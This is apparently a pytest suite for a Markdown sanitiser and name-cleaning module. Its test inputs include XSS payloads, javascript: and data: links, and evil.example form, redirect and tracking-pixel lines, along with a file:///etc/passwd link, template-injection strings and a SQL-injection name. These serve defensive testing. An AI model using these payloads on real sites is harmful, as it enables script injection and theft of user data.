"""People's text: an attack corpus for Markdown, and names of every kind that must come through unharmed."""

import json
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from core.refusals import Refused
from core.usertext import TAGS, clean_line, clean_text, escape_markdown, plain, render

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "mathml breakout": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "style tag": "<style>@import'//evil.example/x.css';</style>",
    "htmx attribute": "<b data-hx-get=/desk hx-get=/desk hx-on:load=alert(1)>x</b>",
    "form": "<form action=//evil.example><input name=password><button formaction=javascript:x>Go</button>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href=//evil.example>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "half a tag": "<a href='javascript:alert(1)",
    "markdown image": "![x](https://evil.example/pixel.gif)",
    "image by reference": "![x][y]\n\n[y]: https://evil.example/pixel.gif",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with entity": "[x](javascript&colon;alert(1))",
    "javascript link with tab": "[x](java&Tab;script:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file address": "[x](file:///etc/passwd)",
    "protocol-relative": "[x](//evil.example)",
    "backslashes for slashes": "[x](\\\\\\\\evil.example)",
    "our own delete button": "[x](/account/delete)",
    "name before the host": "[x](https://sundet.example@evil.example/)",
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "quote in title": '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "quote in address": '[x](https://a.example/"onmouseover="alert(1))',
    "quote in fence language": '```"onmouseover=alert(1)\nx\n```',
    "attribute syntax": "# x {#top .btn style=color:red}",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "template": "{{ config }} {% include '/etc/passwd' %} {order.secret} %(secret)s ${7*7}",
}


def _elements(html: str) -> list[Element]:
    return [
        element
        for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter()
        if isinstance(element.tag, str)
    ]


def _is_harmless(html: str) -> bool:
    for element in _elements(html):
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS:
            return False
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(element.tag, set())
        if set(element.keys()) - allowed:
            return False
        if element.tag == "a" and not element.get("href", "").startswith(("https://", "http://", "mailto:")):
            return False
        if element.tag == "a" and element.get("rel") != "nofollow ugc noopener":
            return False
    return True


def _shown(html: str) -> str:
    return "".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext()).strip()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_render_keeps_only_harmless_elements(attack: str) -> None:
    html = render(attack)
    assert isinstance(html, Markup)
    assert _is_harmless(html), html


@pytest.mark.parametrize(
    "attack", [text for name, text in ATTACKS.items() if "javascript link" in name or "address" in name]
)
def test_render_leaves_odd_links_as_text(attack: str) -> None:
    assert [
        element.tag for element in _elements(render(attack)) if element.tag == "a" and "evil" in element.get("href", "")
    ] == []
    assert '<a href="java' not in render(attack)


def test_render_shows_html_as_it_was_typed() -> None:
    assert render("<b>Fed</b> Skrift") == "<p>&lt;b&gt;Fed&lt;/b&gt; Skrift</p>\n"


def test_render_understands_markdown_and_marks_links() -> None:
    text = "**Ja** og *nej*\nny linje\n\n- [Øst](https://øst.example/å)\n- <mail@example.org>\n\n> citat\n\n`kode`"
    assert render(text) == (
        "<p><strong>Ja</strong> og <em>nej</em><br>\nny linje</p>\n"
        '<ul>\n<li><a href="https://xn--st-kka.example/%C3%A5" rel="nofollow ugc noopener">Øst</a></li>\n'
        '<li><a href="mailto:mail@example.org" rel="nofollow ugc noopener">mail@example.org</a></li>\n</ul>\n'
        "<blockquote>\n<p>citat</p>\n</blockquote>\n<p><code>kode</code></p>\n"
    )


def test_render_does_not_link_bare_addresses() -> None:
    assert render("www.example.org https://example.org") == "<p>www.example.org https://example.org</p>\n"


@pytest.mark.parametrize(
    "text, levels",
    [
        ("# a\n## b\n### c", ["h3", "h4", "h5"]),
        ("#### a\n# b\n#### c", ["h3", "h3", "h4"]),
        ("# a\n\n###### b", ["h3", "h4"]),
        ("a\n===\n\nb\n---", ["h3", "h4"]),
    ],
)
def test_render_fits_headings_under_the_page(text: str, levels: list[str]) -> None:
    assert [element.tag for element in _elements(render(text)) if str(element.tag).startswith("h")] == levels


def test_render_starts_headings_where_the_page_says() -> None:
    assert render("# Hej", top_heading=2) == "<h2>Hej</h2>\n"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "*a_" * 7_000,
        ">" * 20_000,
        "*a **a " * 3_000,
        "[a](b" * 4_000,
        "- " * 10_000,
        "`" * 20_000,
        "<a:" * 6_000,
        "a\u0301" * 9_000,
    ],
    ids=["brackets", "stars", "quotes", "nested emphasis", "links", "lists", "ticks", "autolinks", "accents"],
)
def test_render_takes_bounded_time(text: str) -> None:
    """It takes a second or two; what grows out of hand takes minutes, on any machine."""
    before = time.process_time()
    render(text)
    plain(text)
    assert time.process_time() - before < 30


PIECES = [*"<>\"'&;:/\\()[]!`*_#- \n\tax=@{}\x00\u202e", "script", "href", "javascript:", "https://a.b"]


@given(st.lists(st.sampled_from(PIECES)).map("".join))
def test_render_is_harmless_whatever_is_typed(text: str) -> None:
    assert _is_harmless(render(text))


def test_plain_keeps_words_and_drops_signs() -> None:
    text = "# Vi ses\n\n**Husk** [kort](https://a.example)\nog pas\n\n1. en\n2. to\n   - a\n\n> cit\n\n<b>x</b> &amp; y"
    assert plain(text) == "Vi ses\n\nHusk kort\nog pas\n\n1. en\n2. to\n  - a\n\ncit\n\n<b>x</b> & y"
    assert (
        plain("[her](https://a.example/k) <https://b.example>", links=True)
        == "her (https://a.example/k) https://b.example"
    )


@pytest.mark.parametrize(
    "value",
    [
        "# x",
        "1. x",
        "- x",
        "    x",
        "> x",
        "[a](https://b.example)",
        "<https://b.example>",
        "&amp;",
        "a*b*c",
        "```",
        "![x](y)",
        "x\n===",
        "a | b",
        "\\",
        "x  ",
    ],
)
def test_escape_markdown_shows_exactly_what_was_typed(value: str) -> None:
    html = render(f"Hej {escape_markdown(value)}!")
    assert _shown(html) == f"Hej {value.strip()}!"
    assert {element.tag for element in _elements(html)} - {"DOCUMENT_FRAGMENT"} <= {"p", "br"}


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_escape_markdown_starts_no_markup(value: str) -> None:
    html = render(escape_markdown(value))
    assert {element.tag for element in _elements(html)} - {"DOCUMENT_FRAGMENT"} <= {"p", "br"}
    assert plain(escape_markdown(value)) == "\n".join(
        row.strip() for row in clean_text(value).split("\n") if row.strip()
    )


KEPT = [
    "Søren Ærø Åkesson",
    "María José Guadalupe Fernández-Montesinos de la Cruz y Ångström-Løvenskjold",
    "O’Brien‑Åberg",
    "=SUM(A1:A9) Holm",
    "Robert'); DROP TABLE delegates;-- Björk",
    "<b>Fed</b> Skrift",
    "ليلى السوندي",
    "می\u200cخواهم",
    "क्\u200dष",
    "שירה בר־ים",
    "שָׁלוֹם",
    "Ольга Северная",
    "王小明",
    "葛\U000e0100飾区",
    "Nguyễn Thị Ánh Nguyệt",
    "İpek Şahin-Øst",
    "🌊🌊🌊",
    "🫠 Smält",
    "👩\u200d🎤 👨🏽\u200d👩🏽\u200d👧",
    "❤\ufe0f\u200d🔥",
    "🏳\ufe0f\u200d🌈 🇩🇰🇸🇪",
    "1\ufe0f\u20e3",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "null",
    "!!!!",
    "Ø",
]


@pytest.mark.parametrize("name", KEPT)
def test_clean_line_leaves_names_of_every_kind_alone(name: str) -> None:
    assert clean_line(name) == name
    assert clean_text(name) == name


@pytest.mark.parametrize(
    "typed, kept",
    [
        ("Jean-Luc  Dobbeltmellemrum", "Jean-Luc Dobbeltmellemrum"),
        ("E\u0301va Decomposed", "Éva Decomposed"),
        ("Anna\u200dLena", "AnnaLena"),
        ("Anna\u200bLena", "AnnaLena"),
        ("Tab\tBolag", "Tab Bolag"),
        ("Linje\nskift\r\nApS", "Linje skift ApS"),
        ("\u202egnitset\u202c", "gnitset"),
        ("\u2067a\u2069", "a"),
        ("a\x00b\x1b[31m", "ab[31m"),
        ("\ufeffBom", "Bom"),
        ("sø\u00adren", "søren"),
        (" \u00a0 x \u3000", "x"),
        ("\u3164\u2800\u115f", ""),
        ("a" + "\U000e0061\U000e0062", "a"),
        ("a\ufe0f", "a"),
        ("😀\U000e0101\U000e0102\U000e0103", "😀\U000e0101"),
        ("a" + "\u0334" * 40, "a" + "\u0334" * 8),
        ("\ud800x", "x"),
    ],
)
def test_clean_line_drops_what_cannot_be_seen(typed: str, kept: str) -> None:
    assert clean_line(typed) == kept


@given(st.text())
def test_clean_line_is_one_line_and_stays_as_it_is(text: str) -> None:
    once = clean_line(text)
    assert once == clean_line(once)
    assert once.splitlines() in ([once], [])
    once.encode("utf-8")


def test_clean_line_never_cuts() -> None:
    assert clean_line("Ø" * 200, max_length=200) == "Ø" * 200
    with pytest.raises(Refused) as refused:
        clean_line("Ø" * 201, max_length=200)
    assert (refused.value.code, refused.value.details) == ("text_too_long", {"max_length": 200, "length": 201})


def test_clean_text_keeps_lines_and_indentation() -> None:
    assert clean_text("\r\na\r\n\r\n    b  \u2028c\r\n\n") == "a\n\n    b\nc"


def test_clean_text_refuses_more_than_it_may_hold() -> None:
    with pytest.raises(Refused):
        clean_text("a\n" * 10, max_length=5)


def test_every_awkward_name_is_shown_and_survives_a_mail(awkward_names: list[str]) -> None:
    for name in awkward_names:
        line = clean_line(name)
        assert _shown(render(escape_markdown(line))) == line
        assert plain(escape_markdown(line)) == line


def test_render_serves_many_threads_at_once() -> None:
    with ThreadPoolExecutor(4) as pool:
        assert set(pool.map(render, ["**a** [b](https://c.example)"] * 200)) == {render("**a** [b](https://c.example)")}


@pytest.fixture
def awkward_names() -> list[str]:
    cases = json.loads((Path(__file__).parents[1] / "data" / "edge_cases.json").read_text(encoding="utf-8"))
    names: list[str] = cases["names"] + cases["act_names"] + cases["organisations"]
    return names
